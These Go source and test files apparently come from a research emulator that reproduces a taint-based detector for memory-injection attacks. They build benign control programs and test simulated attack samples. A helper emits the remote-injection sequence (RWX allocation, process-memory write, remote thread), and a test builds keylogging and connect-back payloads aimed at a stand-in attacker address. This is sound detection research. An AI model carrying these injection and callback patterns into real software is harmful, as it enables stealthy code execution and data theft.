			Addr:     gnet.Addr{IP: ep.IP, Port: ep.Port},
			Endpoint: script,
		})
	}
	for _, ev := range w.Events {
		data, err := hex.DecodeString(ev.Data)
		if err != nil {
			return Spec{}, fmt.Errorf("samples: event data: %w", err)
		}
		s.Events = append(s.Events, record.Event{
			At: ev.At, Kind: record.EventKind(ev.Kind), Flow: ev.Flow,
			Data: data, Seq: ev.Seq, Sum: ev.Sum,
		})
	}
	return s, nil
}

// SpecHash returns the SHA-256 (hex) of the spec's canonical wire form —
// the identity the pipeline's result cache and dedup key off. The hash is
// stable across processes: it depends only on the spec's materialized
// content, never on memory layout or map order.
func SpecHash(s Spec) (string, error) {
	raw, err := MarshalSpec(s)
	if err != nil {
		return "", err
	}
	sum := sha256.Sum256(raw)
	return hex.EncodeToString(sum[:]), nil
}

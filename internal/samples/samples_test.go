package samples

import (
	"strings"
	"testing"

	"faros/internal/isa"
	"faros/internal/peimg"
)

func TestAllAttackSpecsBuild(t *testing.T) {
	attacks := Attacks()
	if len(attacks) != 6 {
		t.Fatalf("attacks = %d, want 6 (paper evaluates six samples)", len(attacks))
	}
	seen := make(map[string]bool)
	for _, spec := range attacks {
		if seen[spec.Name] {
			t.Errorf("duplicate scenario name %q", spec.Name)
		}
		seen[spec.Name] = true
		if !spec.ExpectFlag {
			t.Errorf("%s: attack not expected to flag", spec.Name)
		}
		if len(spec.Programs) == 0 || len(spec.AutoStart) == 0 {
			t.Errorf("%s: empty program set", spec.Name)
		}
		for _, p := range spec.Programs {
			img, err := peimg.Unmarshal(p.Bytes)
			if err != nil {
				t.Errorf("%s/%s: bad image: %v", spec.Name, p.Path, err)
				continue
			}
			if img.Section(".text") == nil {
				t.Errorf("%s/%s: no text section", spec.Name, p.Path)
			}
		}
	}
}

func TestPayloadsArePositionIndependentCode(t *testing.T) {
	specs := []PayloadSpec{
		{Message: "m"},
		{Message: "m", SecondStage: true},
		{Message: "m", SelfErase: true},
		{Keylog: "k.log"},
		{ConnectBack: &AttackerShellAddr, Beacon: "b"},
	}
	for i, ps := range specs {
		payload := BuildPayload(ps)
		if len(payload) == 0 || len(payload)%1 != 0 {
			t.Fatalf("spec %d: empty payload", i)
		}
		// The payload head must decode as code (it starts with a jump over
		// the resolver).
		if !isa.LooksLikeCode(payload, 4) {
			t.Errorf("spec %d: head is not code:\n%s", i, isa.DisasmBytes(payload[:32], 0))
		}
		in, err := isa.Decode(payload[:isa.InstrSize])
		if err != nil || in.Op != isa.OpJmp || in.Mode != isa.ModeRel {
			t.Errorf("spec %d: payload must start with a relative jump, got %v", i, in)
		}
	}
}

func TestPayloadContainsNoAbsoluteSelfReferences(t *testing.T) {
	// Assembling at two different bases must produce identical bytes —
	// true position independence.
	a := BuildPayload(PayloadSpec{Message: "x", SecondStage: true})
	b := BuildPayload(PayloadSpec{Message: "x", SecondStage: true})
	if string(a) != string(b) {
		t.Error("payload build not deterministic")
	}
}

func TestJITWorkloadsShape(t *testing.T) {
	specs := JITWorkloads()
	if len(specs) != 20 {
		t.Fatalf("JIT workloads = %d, want 20 (Table III)", len(specs))
	}
	leaky := 0
	for _, s := range specs {
		if s.ExpectFlag {
			leaky++
		}
	}
	if leaky != 2 {
		t.Errorf("leaky workloads = %d, want 2", leaky)
	}
	if len(JavaApplets()) != 10 || len(AJAXSites()) != 10 {
		t.Error("Table III lists 10 applets and 10 sites")
	}
	for name := range LeakyApplets() {
		found := false
		for _, a := range JavaApplets() {
			if a == name {
				found = true
			}
		}
		if !found {
			t.Errorf("leaky applet %q not in applet list", name)
		}
	}
}

func TestMalwareCorpusShape(t *testing.T) {
	corpus := MalwareCorpus()
	if len(corpus) != CorpusSize {
		t.Fatalf("corpus = %d, want %d", len(corpus), CorpusSize)
	}
	names := make(map[string]bool)
	for _, spec := range corpus {
		if spec.ExpectFlag {
			t.Errorf("%s: corpus sample must not expect a flag", spec.Name)
		}
		if names[spec.Name] {
			t.Errorf("duplicate corpus name %q", spec.Name)
		}
		names[spec.Name] = true
		for _, p := range spec.Programs {
			if _, err := peimg.Unmarshal(p.Bytes); err != nil {
				t.Errorf("%s: bad image: %v", spec.Name, err)
			}
		}
	}
	fams := MalwareFamilies()
	if len(fams) != 17 {
		t.Errorf("families = %d, want 17 (Table IV rows)", len(fams))
	}
	for _, f := range fams {
		if len(f.Behaviors) == 0 {
			t.Errorf("family %s has no behaviours", f.Name)
		}
	}
}

func TestBenignProgramsShape(t *testing.T) {
	specs := BenignPrograms()
	if len(specs) != 14 {
		t.Fatalf("benign programs = %d, want 14", len(specs))
	}
	for _, s := range specs {
		if s.ExpectFlag {
			t.Errorf("%s expects a flag", s.Name)
		}
	}
}

func TestBehaviorStrings(t *testing.T) {
	for _, b := range AllBehaviors() {
		if b.String() == "" {
			t.Errorf("behaviour %d has no name", b)
		}
	}
	if len(AllBehaviors()) != 9 {
		t.Error("Table IV has 9 behaviour columns")
	}
}

func TestPerfWorkloadsShape(t *testing.T) {
	ws := PerfWorkloads()
	if len(ws) != 6 {
		t.Fatalf("perf workloads = %d, want 6 (Table V rows)", len(ws))
	}
	wantNames := []string{"Skype", "Team Viewer", "Bozok", "Spygate", "Pandora", "Remote Utility"}
	for i, w := range ws {
		if w.Display != wantNames[i] {
			t.Errorf("workload[%d] = %s, want %s", i, w.Display, wantNames[i])
		}
	}
}

func TestSeedFilesPresent(t *testing.T) {
	files := SeedFiles()
	for _, want := range []string{"document_0.txt", "secrets.txt"} {
		if _, ok := files[want]; !ok {
			t.Errorf("seed file %q missing", want)
		}
	}
}

func TestSanitize(t *testing.T) {
	if got := sanitize("netflix.com/top100"); strings.ContainsAny(got, "./") {
		t.Errorf("sanitize = %q", got)
	}
	if got := sanitizeName("Blue Banana v2.0"); got != "blue_banana_v2_0" {
		t.Errorf("sanitizeName = %q", got)
	}
}

func TestMicrobenchWorkloadsBuild(t *testing.T) {
	for _, w := range []IndirectWorkload{Figure1Workload(), Figure2Workload(), OvertaintWorkload()} {
		if len(w.Spec.Programs) == 0 || w.Len == 0 {
			t.Errorf("%s: malformed workload", w.Spec.Name)
		}
		if w.SrcVA == 0 || w.DstVA == 0 {
			t.Errorf("%s: missing buffer addresses", w.Spec.Name)
		}
	}
}

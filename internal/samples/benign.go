package samples

import (
	"fmt"

	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
	"faros/internal/record"
)

// The 14 benign programs of the Table IV false-positive corpus: the four
// named in the table (Remote Utility, TeamViewer, Win7 snipping tool,
// Skype) plus ten more covering download, upload, legitimate DLL loading,
// and runtime API resolution through ntdll — the behaviours most likely to
// stress the policy.

// benignServerAddr derives per-program service addresses.
func benignServerAddr(i int) gnet.Addr {
	return gnet.Addr{IP: fmt.Sprintf("40.90.4.%d", 10+i), Port: 443}
}

// remoteDesktopProgram: screen capture streamed out, commands received
// (Remote Utility / TeamViewer shape).
func remoteDesktopProgram(name string, addr gnet.Addr, rounds uint32) Program {
	b := peimg.NewBuilder(name)
	buf := b.BSS(1024)
	emitConnect(b, addr)
	emitBoundedLoop(b, "rd", rounds, func() {
		b.Text.Movi(isa.EBX, buf)
		b.Text.Movi(isa.ECX, 128)
		b.CallImport("ReadScreen")
		emitSendBuf(b, buf, 0, true)
		emitRecv(b, buf, 16) // remote input events
		emitSleep(b, 300)
	})
	emitExit(b, 0)
	return build(b, name)
}

// snippingProgram: one screenshot to disk.
func snippingProgram(name string) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("out").DataString("snip.png")
	buf := b.BSS(1024)
	b.Text.Movi(isa.EBX, buf)
	b.Text.Movi(isa.ECX, 256)
	b.CallImport("ReadScreen")
	b.Text.Push(isa.EAX)
	b.Text.Movi(isa.EBX, b.MustDataVA("out"))
	b.CallImport("CreateFileA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.Text.Pop(isa.EDX)
	b.Text.Movi(isa.ECX, buf)
	emitRetryImport(b, "WriteFile")
	emitExit(b, 0)
	return build(b, name)
}

// voipProgram: audio out, audio in (Skype shape).
func voipProgram(name string, addr gnet.Addr) Program {
	b := peimg.NewBuilder(name)
	buf := b.BSS(1024)
	emitConnect(b, addr)
	emitBoundedLoop(b, "call", 3, func() {
		b.Text.Movi(isa.EBX, buf)
		b.Text.Movi(isa.ECX, 64)
		b.CallImport("ReadAudio")
		b.Text.Cmpi(isa.EAX, 0)
		b.Text.Jz("call_noaudio")
		emitSendBuf(b, buf, 0, true)
		b.Text.Label("call_noaudio")
		emitRecv(b, buf, 64) // far-end audio
		emitSleep(b, 400)
	})
	emitExit(b, 0)
	return build(b, name)
}

// downloadToDiskProgram: fetch a blob, save it (browser download shape).
func downloadToDiskProgram(name string, addr gnet.Addr, out string, n uint32) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("out").DataString(out)
	buf := b.BSS(4096)
	emitConnect(b, addr)
	emitRecv(b, buf, n)
	b.Text.Push(isa.EAX)
	b.Text.Movi(isa.EBX, b.MustDataVA("out"))
	b.CallImport("CreateFileA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.Text.Pop(isa.EDX)
	b.Text.Movi(isa.ECX, buf)
	emitRetryImport(b, "WriteFile")
	emitExit(b, 0)
	return build(b, name)
}

// uploadProgram: read a local file, send it (ftp/backup shape).
func uploadProgram(name string, addr gnet.Addr, src string) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("src").DataString(src)
	buf := b.BSS(1024)
	emitConnect(b, addr)
	b.Text.Movi(isa.EBX, b.MustDataVA("src"))
	b.CallImport("OpenFileA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.Text.Movi(isa.ECX, buf)
	b.Text.Movi(isa.EDX, 256)
	emitRetryImport(b, "ReadFile")
	emitSendBuf(b, buf, 0, true)
	emitExit(b, 0)
	return build(b, name)
}

// dllUpdaterProgram downloads a plugin DLL, writes it to disk, and loads it
// with LoadLibraryA — the legitimate runtime-linking path. The DLL's code
// bytes carry netflow taint, but the loader resolves its imports natively
// and the DLL never walks the export table, so FAROS must stay quiet. This
// is the sharpest negative control in the corpus.
func dllUpdaterProgram(name string, addr gnet.Addr, dll []byte) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("dllpath").DataString("plugin.dll")
	buf := b.BSS(8192)
	n := uint32(len(dll))
	emitConnect(b, addr)
	emitRecvAll(b, buf, n)
	b.Text.Movi(isa.EBX, b.MustDataVA("dllpath"))
	b.CallImport("CreateFileA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.Text.Movi(isa.ECX, buf)
	b.Text.Movi(isa.EDX, n)
	emitRetryImport(b, "WriteFile")
	// LoadLibraryA returns the plugin entry point; call it.
	b.Text.Movi(isa.EBX, b.MustDataVA("dllpath"))
	b.CallImport("LoadLibraryA")
	b.Text.Cmpi(isa.EAX, 0xFFFFFFFF)
	b.Text.Jz("skip")
	b.Text.Mov(isa.EBP, isa.EAX)
	b.Text.CallReg(isa.EBP)
	b.Text.Label("skip")
	emitExit(b, 0)
	return build(b, name)
}

// PluginDLL builds the benign plugin loaded by the updater. It lives at a
// non-conflicting base and announces itself via its loader-resolved import.
func PluginDLL() []byte {
	b := peimg.NewBuilder("plugin.dll")
	b.Base = 0x60000000
	b.DataBlk.Label("msg").DataString("plugin.dll initialized")
	b.Text.Label("DllMain")
	emitDebugPrint(b, "msg")
	b.Text.Ret()
	b.SetEntry("DllMain")
	b.AddExport("DllMain", "DllMain")
	raw, err := b.BuildBytes()
	if err != nil {
		panic(fmt.Sprintf("samples: plugin dll: %v", err))
	}
	return raw
}

// runtimeResolverProgram resolves its APIs at runtime through ntdll's
// GetProcAddress instead of import thunks (clock/utility shape) — the
// benign counterpart of what injected payloads do manually.
func runtimeResolverProgram(name string) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("msg").DataString(name + ": runtime-linked ok")
	b.Text.Movi(isa.EBX, peimg.HashName("DebugPrint"))
	b.CallImport("GetProcAddress")
	b.Text.Mov(isa.EBP, isa.EAX)
	b.Text.Movi(isa.EBX, b.MustDataVA("msg"))
	b.Text.CallReg(isa.EBP)
	b.Text.Movi(isa.EBX, peimg.HashName("GetTickCount"))
	b.CallImport("GetProcAddress")
	b.Text.Mov(isa.EBP, isa.EAX)
	b.Text.CallReg(isa.EBP)
	emitExit(b, 0)
	return build(b, name)
}

// editorProgram: keyboard to file (notepad-with-a-document shape).
func editorProgram(name string) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("doc").DataString("mydoc.txt")
	buf := b.BSS(256)
	b.Text.Movi(isa.EBX, b.MustDataVA("doc"))
	b.CallImport("CreateFileA")
	b.Text.Push(isa.EAX)
	emitBoundedLoop(b, "ed", 3, func() {
		b.Text.Movi(isa.EBX, buf)
		b.Text.Movi(isa.ECX, 64)
		b.CallImport("ReadKeyboard")
		b.Text.Cmpi(isa.EAX, 0)
		b.Text.Jz("ed_skip")
		b.Text.Mov(isa.EDX, isa.EAX)
		b.Text.Ld(isa.EBX, isa.ESP, 4)
		b.Text.Movi(isa.ECX, buf)
		emitRetryImport(b, "WriteFile")
		b.Text.Label("ed_skip")
		emitSleep(b, 400)
	})
	b.Text.Pop(isa.EAX)
	emitExit(b, 0)
	return build(b, name)
}

// computeProgram: pure CPU work (calculator shape).
func computeProgram(name string) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("done").DataString(name + ": computed")
	b.Text.Movi(isa.EAX, 1)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Label("l")
	b.Text.Cmpi(isa.ECX, 500)
	b.Text.Jge("d")
	b.Text.Muli(isa.EAX, 3)
	b.Text.Addi(isa.EAX, 7)
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("l")
	b.Text.Label("d")
	emitDebugPrint(b, "done")
	emitExit(b, 0)
	return build(b, name)
}

// copyFileProgram: file-to-file copy (backup shape).
func copyFileProgram(name, src, dst string) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("src").DataString(src)
	b.DataBlk.Label("dst").DataString(dst)
	buf := b.BSS(1024)
	b.Text.Movi(isa.EBX, b.MustDataVA("src"))
	b.CallImport("OpenFileA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.Text.Movi(isa.ECX, buf)
	b.Text.Movi(isa.EDX, 512)
	emitRetryImport(b, "ReadFile")
	b.Text.Push(isa.EAX)
	b.Text.Movi(isa.EBX, b.MustDataVA("dst"))
	b.CallImport("CreateFileA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.Text.Pop(isa.EDX)
	b.Text.Movi(isa.ECX, buf)
	emitRetryImport(b, "WriteFile")
	emitExit(b, 0)
	return build(b, name)
}

// chatProgram: interactive send/recv loop.
func chatProgram(name string, addr gnet.Addr) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("hello").DataString("hi there")
	buf := b.BSS(256)
	emitConnect(b, addr)
	emitSendBuf(b, b.MustDataVA("hello"), 9, false)
	emitRecv(b, buf, 64)
	b.Text.Movi(isa.EBX, buf)
	b.CallImport("DebugPrint")
	emitExit(b, 0)
	return build(b, name)
}

// BenignPrograms returns the 14 benign scenarios of the FP corpus.
func BenignPrograms() []Spec {
	mk := func(i int, name string, progs []Program, eps []EndpointSpec, events []record.Event) Spec {
		starts := make([]string, 0, 1)
		if len(progs) > 0 {
			starts = append(starts, progs[0].Path)
		}
		return Spec{
			Name:       fmt.Sprintf("benign_%02d_%s", i, sanitizeName(name)),
			Programs:   progs,
			AutoStart:  starts,
			Endpoints:  eps,
			Events:     events,
			MaxInstr:   3_000_000,
			ExpectFlag: false,
		}
	}
	devices := corpusDeviceScript()
	talker := func(i int) []EndpointSpec {
		return []EndpointSpec{{Addr: benignServerAddr(i), Endpoint: chatterbox{
			banner: []byte("srv-hello\x00"), reply: []byte("srv-ack\x00"), delay: 400,
		}}}
	}

	dll := PluginDLL()
	return []Spec{
		mk(0, "Remote Utility", []Program{remoteDesktopProgram("remote_utility.exe", benignServerAddr(0), 3)}, talker(0), devices),
		mk(1, "TeamViewer", []Program{remoteDesktopProgram("teamviewer.exe", benignServerAddr(1), 2)}, talker(1), devices),
		mk(2, "Win7 snipping tool", []Program{snippingProgram("snippingtool.exe")}, nil, nil),
		mk(3, "Skype", []Program{voipProgram("skype.exe", benignServerAddr(3))}, talker(3), devices),
		mk(4, "browser download", []Program{downloadToDiskProgram("browser.exe", benignServerAddr(4), "setup.bin", 32)}, []EndpointSpec{{Addr: benignServerAddr(4), Endpoint: oneShot{delay: 400, payload: []byte("binary-blob-contents-here-000001")}}}, nil),
		mk(5, "ftp upload", []Program{uploadProgram("ftpclient.exe", benignServerAddr(5), "secrets.txt")}, []EndpointSpec{{Addr: benignServerAddr(5), Endpoint: sink{}}}, nil),
		mk(6, "software updater", []Program{dllUpdaterProgram("winupdate.exe", benignServerAddr(6), dll)}, []EndpointSpec{{Addr: benignServerAddr(6), Endpoint: oneShot{delay: 400, payload: dll}}}, nil),
		mk(7, "runtime resolver clock", []Program{runtimeResolverProgram("clock.exe")}, nil, nil),
		mk(8, "editor", []Program{editorProgram("wordpad.exe")}, nil, devices),
		mk(9, "calculator", []Program{computeProgram("calc.exe")}, nil, nil),
		mk(10, "backup tool", []Program{copyFileProgram("backup.exe", "document_0.txt", "backup_0.txt")}, nil, nil),
		mk(11, "chat client", []Program{chatProgram("chat.exe", benignServerAddr(11))}, talker(11), nil),
		mk(12, "media player", []Program{copyFileProgram("mediaplayer.exe", "document_1.txt", "cache.dat")}, nil, nil),
		mk(13, "installer", []Program{downloadToDiskProgram("installer.exe", benignServerAddr(13), "app.pkg", 24)}, []EndpointSpec{{Addr: benignServerAddr(13), Endpoint: oneShot{delay: 400, payload: []byte("pkg-payload-24-bytes-xxx")}}}, nil),
	}
}

package samples

import (
	"bytes"
	"testing"
)

// corpusSpecs enumerates every built-in corpus entry (the same set the
// faros facade exposes, plus the microbenchmark workloads).
func corpusSpecs() []Spec {
	specs := append([]Spec{}, Attacks()...)
	specs = append(specs, TransientReflective())
	specs = append(specs, EvasionScenarios()...)
	specs = append(specs, JITWorkloads()...)
	specs = append(specs, BenignPrograms()...)
	specs = append(specs, MalwareCorpus()...)
	specs = append(specs,
		Figure1Workload().Spec,
		Figure2Workload().Spec,
		OvertaintWorkload().Spec,
		Spinner(1000),
	)
	for _, w := range PerfWorkloads() {
		specs = append(specs, w.Spec)
	}
	return specs
}

// TestSpecWireRoundTrip is the property test: for every corpus entry,
// serialize → parse → serialize is byte-identical, and the re-parsed spec
// hashes to the same value.
func TestSpecWireRoundTrip(t *testing.T) {
	specs := corpusSpecs()
	if len(specs) < 130 {
		t.Fatalf("corpus enumeration looks truncated: %d specs", len(specs))
	}
	for _, spec := range specs {
		first, err := MarshalSpec(spec)
		if err != nil {
			t.Fatalf("%s: marshal: %v", spec.Name, err)
		}
		parsed, err := UnmarshalSpec(first)
		if err != nil {
			t.Fatalf("%s: unmarshal: %v", spec.Name, err)
		}
		second, err := MarshalSpec(parsed)
		if err != nil {
			t.Fatalf("%s: re-marshal: %v", spec.Name, err)
		}
		if !bytes.Equal(first, second) {
			t.Errorf("%s: serialize→parse→serialize not byte-identical (%d vs %d bytes)",
				spec.Name, len(first), len(second))
		}
		h1, err := SpecHash(spec)
		if err != nil {
			t.Fatalf("%s: hash: %v", spec.Name, err)
		}
		h2, err := SpecHash(parsed)
		if err != nil {
			t.Fatalf("%s: re-hash: %v", spec.Name, err)
		}
		if h1 != h2 {
			t.Errorf("%s: hash changed across round trip: %s vs %s", spec.Name, h1, h2)
		}
	}
}

// TestSpecWireUnmarshalErrors rejects malformed wire forms.
func TestSpecWireUnmarshalErrors(t *testing.T) {
	cases := []struct {
		name string
		raw  string
	}{
		{"bad json", `{{{`},
		{"no name", `{"max_instr": 5}`},
		{"bad program hex", `{"name":"x","programs":[{"path":"a.exe","code":"zz"}]}`},
		{"unknown script", `{"name":"x","endpoints":[{"ip":"1.2.3.4","port":1,"script":{"kind":"mystery"}}]}`},
		{"bad event hex", `{"name":"x","events":[{"at":1,"kind":2,"data":"zz"}]}`},
	}
	for _, tc := range cases {
		if _, err := UnmarshalSpec([]byte(tc.raw)); err == nil {
			t.Errorf("%s: accepted", tc.name)
		}
	}
}

// TestSpecWireRejectsForeignEndpoint: endpoint types without a wire
// encoding must fail loudly (the pipeline treats such specs as
// uncacheable rather than hashing them unsoundly).
type foreignEndpoint struct{ sink }

func TestSpecWireRejectsForeignEndpoint(t *testing.T) {
	spec := Spec{
		Name:      "foreign",
		Endpoints: []EndpointSpec{{Addr: AttackerAddr, Endpoint: foreignEndpoint{}}},
	}
	if _, err := MarshalSpec(spec); err == nil {
		t.Fatal("foreign endpoint type accepted")
	}
	if _, err := SpecHash(spec); err == nil {
		t.Fatal("foreign endpoint type hashed")
	}
}

// goldenSpecHashes pins the spec hash of representative corpus entries.
// These constants were computed once and checked in: the test asserts the
// hash is stable across processes and over time. A legitimate change to a
// sample builder or payload will shift its hash — regenerate with
// `go test ./internal/samples -run TestSpecHashGolden -v -update-golden`
// guidance in the failure message.
var goldenSpecHashes = map[string]string{
	"reflective_dll_inject":   "2da7762e4d80d636b3850610a97794681c2363eb90f198bece7eda56c3341758",
	"reverse_tcp_dns":         "f5661e52d63b59481d9765898b0e66290be85779bd447f1d8bcdc424b5e1c2b1",
	"bypassuac_injection":     "7853522982343ddc57f8f4ce925ee7941b1e771f3a87d64470e4714f6d11e6f8",
	"process_hollowing":       "e1300969de69c6cd6c5795e9d85b20906df94957528db8d6de0a04de95f1aee2",
	"darkcomet":               "03cfad163cac7154af9f729c36bbc45e8cad8f90eccee452a20905eb32bc269f",
	"njrat":                   "10a9cfc869edc274efe18989ff73b9a6ffcff9651cb138e499261d9e14a030a8",
	"fig1_address_dependency": "a06ade88903403589249cecf7c50b296b4292486fc306900dfae23a7254b2b21",
}

func TestSpecHashGolden(t *testing.T) {
	specs := map[string]Spec{}
	for _, s := range Attacks() {
		specs[s.Name] = s
	}
	specs["fig1_address_dependency"] = Figure1Workload().Spec
	if len(goldenSpecHashes) == 0 {
		for name, s := range specs {
			h, err := SpecHash(s)
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("golden %q: %q", name, h)
		}
		t.Fatal("goldenSpecHashes is empty — paste the logged hashes in")
	}
	for name, want := range goldenSpecHashes {
		spec, ok := specs[name]
		if !ok {
			t.Fatalf("golden entry %q has no spec", name)
		}
		got, err := SpecHash(spec)
		if err != nil {
			t.Fatal(err)
		}
		if got != want {
			t.Errorf("%s: hash = %s, want %s (if the sample changed intentionally, update the golden)", name, got, want)
		}
	}
}

package samples

import (
	"fmt"

	"faros/internal/guest"
	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
)

// guestlib: code-generation helpers shared by the sample programs. The
// WinMini calling convention everywhere: args in EBX/ECX/EDX/ESI, result in
// EAX, EDI clobbered as the linkage scratch.

// emitConnect emits socket()+connect(addr); the socket handle ends in EBP.
// Requires a data label "c2ip" holding the IP string.
func emitConnect(b *peimg.Builder, addr gnet.Addr) {
	b.DataBlk.Label("c2ip").DataString(addr.IP)
	b.CallImport("Socket")
	b.Text.Mov(isa.EBP, isa.EAX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, b.MustDataVA("c2ip"))
	b.Text.Movi(isa.EDX, uint32(addr.Port))
	b.CallImport("Connect")
}

// Retry tuning for transient syscall failures (StatusRetry): up to
// retryMax attempts with linear backoff of backoffStep guest instructions
// per attempt. retryMax comfortably exceeds any fault plan's
// MaxConsecutive cap, so retried calls always eventually land.
const (
	retryMax    = 8
	backoffStep = 300
)

// emitRetryImport calls api with its argument registers already loaded,
// retrying with bounded linear backoff while it returns StatusRetry.
// Argument registers survive the retries: syscalls clobber only EAX, and
// the Sleep between attempts saves/restores EBX around its own argument.
// On exhaustion EAX is StatusRetry; otherwise it is api's result.
func emitRetryImport(b *peimg.Builder, api string) {
	id := fmt.Sprintf("rty%d", b.Text.Len())
	b.Text.Pushi(0) // attempt counter
	b.Text.Label(id + "_again")
	b.CallImport(api)
	b.Text.Cmpi(isa.EAX, guest.StatusRetry)
	b.Text.Jnz(id + "_done")
	b.Text.Ld(isa.EAX, isa.ESP, 0)
	b.Text.Addi(isa.EAX, 1)
	b.Text.St(isa.ESP, 0, isa.EAX)
	b.Text.Cmpi(isa.EAX, retryMax)
	b.Text.Jge(id + "_exhausted")
	b.Text.Push(isa.EBX)
	b.Text.Mov(isa.EBX, isa.EAX)
	b.Text.Muli(isa.EBX, backoffStep)
	b.CallImport("Sleep")
	b.Text.Pop(isa.EBX)
	b.Text.Jmp(id + "_again")
	b.Text.Label(id + "_exhausted")
	b.Text.Movi(isa.EAX, guest.StatusRetry)
	b.Text.Label(id + "_done")
	b.Text.Pop(isa.EDI) // drop counter; EDI is the linkage scratch
}

// emitRecv emits recv(EBP socket, buf, n) with transient-failure retry;
// bytes received return in EAX (up-to-n semantics, like recv(2)).
func emitRecv(b *peimg.Builder, bufVA, n uint32) {
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, bufVA)
	b.Text.Movi(isa.EDX, n)
	emitRetryImport(b, "Recv")
}

// emitRecvAll receives exactly n bytes into bufVA, looping over short
// reads and transient failures (the robust read-fully idiom). EAX ends
// with the total received — n on success, less if the peer closed early.
func emitRecvAll(b *peimg.Builder, bufVA, n uint32) {
	id := fmt.Sprintf("rall%d", b.Text.Len())
	b.Text.Pushi(0) // total received
	b.Text.Label(id + "_loop")
	b.Text.Ld(isa.EAX, isa.ESP, 0)
	b.Text.Cmpi(isa.EAX, n)
	b.Text.Jge(id + "_done")
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, bufVA)
	b.Text.Add(isa.ECX, isa.EAX)
	b.Text.Movi(isa.EDX, n)
	b.Text.Sub(isa.EDX, isa.EAX)
	emitRetryImport(b, "Recv")
	// Signed compare: 0 means closed, negative means error or retries
	// exhausted — both end the loop.
	b.Text.Cmpi(isa.EAX, 1)
	b.Text.Jl(id + "_done")
	b.Text.Ld(isa.ECX, isa.ESP, 0)
	b.Text.Add(isa.ECX, isa.EAX)
	b.Text.St(isa.ESP, 0, isa.ECX)
	b.Text.Jmp(id + "_loop")
	b.Text.Label(id + "_done")
	b.Text.Pop(isa.EAX)
}

// emitSendBuf emits send(EBP socket, buf, n) with n taken from EAX when
// nFromEAX is set.
func emitSendBuf(b *peimg.Builder, bufVA uint32, n uint32, nFromEAX bool) {
	if nFromEAX {
		b.Text.Mov(isa.EDX, isa.EAX)
	} else {
		b.Text.Movi(isa.EDX, n)
	}
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, bufVA)
	b.CallImport("Send")
}

// emitExit emits ExitProcess(code).
func emitExit(b *peimg.Builder, code uint32) {
	b.Text.Movi(isa.EBX, code)
	b.CallImport("ExitProcess")
}

// emitSleep emits Sleep(n).
func emitSleep(b *peimg.Builder, n uint32) {
	b.Text.Movi(isa.EBX, n)
	b.CallImport("Sleep")
}

// emitDebugPrint emits DebugPrint(labeled string).
func emitDebugPrint(b *peimg.Builder, label string) {
	b.Text.Movi(isa.EBX, b.MustDataVA(label))
	b.CallImport("DebugPrint")
}

// emitSleepLoopForever emits the idle tail used by victim processes.
func emitSleepLoopForever(b *peimg.Builder, interval uint32, loopLabel string) {
	b.Text.Label(loopLabel)
	emitSleep(b, interval)
	b.Text.Jmp(loopLabel)
}

// emitBoundedLoop wraps body in a counted loop using a stack slot for the
// counter, so body may clobber any register except ESP discipline.
func emitBoundedLoop(b *peimg.Builder, label string, iterations uint32, body func()) {
	b.Text.Movi(isa.EAX, 0)
	b.Text.Push(isa.EAX)
	b.Text.Label(label + "_top")
	b.Text.Ld(isa.EAX, isa.ESP, 0)
	b.Text.Cmpi(isa.EAX, iterations)
	b.Text.Jge(label + "_end")
	body()
	b.Text.Ld(isa.EAX, isa.ESP, 0)
	b.Text.Addi(isa.EAX, 1)
	b.Text.St(isa.ESP, 0, isa.EAX)
	b.Text.Jmp(label + "_top")
	b.Text.Label(label + "_end")
	b.Text.Pop(isa.EAX)
}

// emitFindAndOpenProcess finds victimLabel's process by name and leaves an
// open handle in EBP.
func emitFindAndOpenProcess(b *peimg.Builder, victimNameLabel string) {
	b.Text.Movi(isa.EBX, b.MustDataVA(victimNameLabel))
	b.CallImport("FindProcessA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.CallImport("OpenProcess")
	b.Text.Mov(isa.EBP, isa.EAX)
}

// emitInjectAndRun emits the classic remote-injection triple against the
// process handle in EBP: VirtualAlloc(RWX) in the target, WriteProcessMemory
// of [srcVA, srcVA+n), CreateRemoteThread at the allocation.
func emitInjectAndRun(b *peimg.Builder, srcVA, n uint32) {
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EDX, n)
	b.Text.Movi(isa.ESI, 7) // rwx
	b.CallImport("VirtualAlloc")
	b.Text.Push(isa.EAX)

	b.Text.Mov(isa.ECX, isa.EAX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.EDX, srcVA)
	b.Text.Movi(isa.ESI, n)
	b.CallImport("WriteProcessMemory")

	b.Text.Pop(isa.ECX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.CallImport("CreateRemoteThread")
}

// victimProgram builds an idle victim process (notepad.exe, svchost.exe,
// firefox.exe, explorer.exe): it sleeps forever, standing in for a message
// pump.
func victimProgram(name string) Program {
	b := peimg.NewBuilder(name)
	emitSleepLoopForever(b, 300, "pump")
	return build(b, name)
}

package samples

import (
	"fmt"

	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
	"faros/internal/record"
)

